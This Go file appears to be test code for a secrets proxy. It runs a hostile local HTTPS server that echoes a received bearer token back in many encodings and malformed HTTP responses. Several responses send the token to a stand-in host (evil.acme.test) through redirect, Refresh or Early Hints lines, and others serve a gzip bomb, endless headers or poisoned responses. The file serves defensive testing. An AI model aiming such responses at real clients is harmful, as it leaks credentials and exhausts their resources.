//go:build linux

package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/agentsecrets/agentsecrets/ca"
)

// trick is what a hostile origin does with the value that it got: it writes its
// answer to the connection itself.
type trick func(conn net.Conn, value string)

// newHostile is an origin whose paths are tricks.
func newHostile(host string, by *ca.Authority) (*origin, error) {
	o, err := newOrigin(host, "127.0.0.1:0", by, "http/1.1")
	if err != nil {
		return nil, err
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	cfg := &tls.Config{NextProtos: []string{"http/1.1"}, GetCertificate: func(hello *tls.ClientHelloInfo) (*tls.Certificate, error) { return by.Leaf(hello.ServerName) }}
	tricks, kept := tricks(), ""
	o.serve = func(conn net.Conn) {
		rec := o.record(&record{})
		secured := tls.Server(conn, cfg)
		defer conn.Close()
		if secured.Handshake() != nil {
			return
		}
		c := &recorded{secured, rec}
		for r := bufio.NewReader(c); ; {
			req, err := http.ReadRequest(r)
			if err != nil {
				return
			}
			_, _ = io.Copy(io.Discard, req.Body)
			value := strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer ")
			if value == "" {
				value = kept // of an earlier exchange
			}
			kept = value
			do, known := tricks[req.URL.Path]
			if !known {
				return
			}
			do(c, value)
		}
	}
	return o, nil
}

// reply writes an answer of a declared length.
func reply(conn net.Conn, line, head, body string) {
	fmt.Fprintf(conn, "HTTP/1.1 %s\r\n%sContent-Length: %d\r\n\r\n%s", line, head, len(body), body)
}

// said is a trick that has something in the body.
func said(encode func(string) string) trick {
	return func(conn net.Conn, v string) {
		reply(conn, "200 OK", "Content-Type: text/plain\r\n", "you sent "+encode(v)+", thank you")
	}
}

// headed is a trick that has something in the head.
func headed(line, field string) trick {
	return func(conn net.Conn, v string) {
		reply(conn, strings.ReplaceAll(line, "$V", v), strings.ReplaceAll(field, "$V", v)+"\r\n", "ok")
	}
}

// lax is every byte with a percent.
func lax(v string) string {
	return "%" + strings.Join(strings.Fields(fmt.Sprintf("% x", v)), "%")
}

func wide(v string) string {
	var b bytes.Buffer
	for _, u := range utf16.Encode([]rune(v)) {
		b.Write([]byte{byte(u), byte(u >> 8)})
	}
	return b.String()
}

func tricks() map[string]trick {
	all := map[string]trick{
		"/verbatim":   said(func(v string) string { return v }),
		"/base64":     said(func(v string) string { return base64.StdEncoding.EncodeToString([]byte("x" + v)) }),
		"/base64url":  said(func(v string) string { return base64.RawURLEncoding.EncodeToString([]byte("xy" + v)) }),
		"/hex":        said(func(v string) string { return hex.EncodeToString([]byte(v)) }),
		"/percent":    said(lax),
		"/query":      said(url.QueryEscape),
		"/wide":       said(wide),
		"/header":     headed("200 OK", "X-Echo: $V"),
		"/headername": headed("200 OK", "X-$V: 1"),
		"/cookie":     headed("200 OK", "Set-Cookie: s=$V; Path=/"),
		"/reason":     headed("200 $V", "X-A: b"),
		"/redirect":   headed("302 Found", "Location: https://evil.acme.test/?k=$V"),
		"/refresh":    headed("200 OK", "Refresh: 0; url=https://evil.acme.test/$V"),
		"/altsvc":     headed("200 OK", `Alt-Svc: h3="evil.acme.test:443"`),
		"/partial":    headed("206 Partial Content", "Content-Range: bytes 0-1/$V"),
		"/coding":     headed("200 OK", "Content-Encoding: x-$V"),
		"/twolengths": headed("200 OK", "Transfer-Encoding: chunked"),
		"/folded":     headed("200 OK", "X-A: b\r\n $V"),
		"/control":    headed("200 OK", "X-A: b\x00$V"),
	}
	for _, more := range []map[string]trick{streamTricks(), oddTricks()} {
		for path, t := range more {
			all[path] = t
		}
	}
	return all
}

func streamTricks() map[string]trick {
	return map[string]trick{
		"/chunks": func(conn net.Conn, v string) {
			io.WriteString(conn, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
			for _, c := range []byte("<" + v + ">") {
				fmt.Fprintf(conn, "1\r\n%c\r\n", c)
			}
			io.WriteString(conn, "0\r\n\r\n")
		},
		"/torn": func(conn net.Conn, v string) {
			fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(v), v[:len(v)/2])
			time.Sleep(100 * time.Millisecond)
			io.WriteString(conn, v[len(v)/2:])
		},
		"/cut": func(conn net.Conn, v string) {
			fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(v)+9, v)
			conn.Close()
		},
		"/trailer": func(conn net.Conn, v string) {
			fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-End\r\n\r\n2\r\nok\r\n0\r\nX-End: %s\r\n\r\n", v)
		},
		"/early": func(conn net.Conn, v string) {
			fmt.Fprintf(conn, "HTTP/1.1 103 Early Hints\r\nLink: <https://evil.acme.test/%s>\r\n\r\n", v)
			reply(conn, "200 OK", "", "ok")
		},
		"/extension": func(conn net.Conn, v string) {
			fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2;k=%s\r\nok\r\n0\r\n\r\n", v)
		},
		"/gzip": func(conn net.Conn, v string) { reply(conn, "200 OK", "Content-Encoding: gzip\r\n", gzipped(v)) },
		"/bomb": func(conn net.Conn, _ string) { reply(conn, "200 OK", "Content-Encoding: gzip\r\n", bomb()) },
		"/endless": func(conn net.Conn, v string) {
			io.WriteString(conn, "HTTP/1.1 200 OK\r\n")
			for i := 0; ; i++ {
				if _, err := fmt.Fprintf(conn, "X-%d: %s\r\n", i, v); err != nil {
					return
				}
			}
		},
		"/poison": func(conn net.Conn, v string) {
			reply(conn, "200 OK", "", "ok")
			reply(conn, "200 OK", "X-Poison: POISON\r\n", "POISON "+v)
		},
		"/websocket": func(conn net.Conn, v string) {
			fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n\x81%c%s\x88\x00", byte(len(v)), v)
		},
		"/otherprotocol": func(conn net.Conn, v string) {
			fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: chat\r\n\r\n%s\n", v)
		},
		"/nohttp": func(conn net.Conn, v string) { fmt.Fprintf(conn, "SSH-2.0-%s\r\n", v); conn.Close() },
	}
}

// bomb is 64 MiB of nothing.
func bomb() string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	zeros := make([]byte, 1<<20)
	for range 64 {
		z.Write(zeros)
	}
	z.Close()
	return b.String()
}
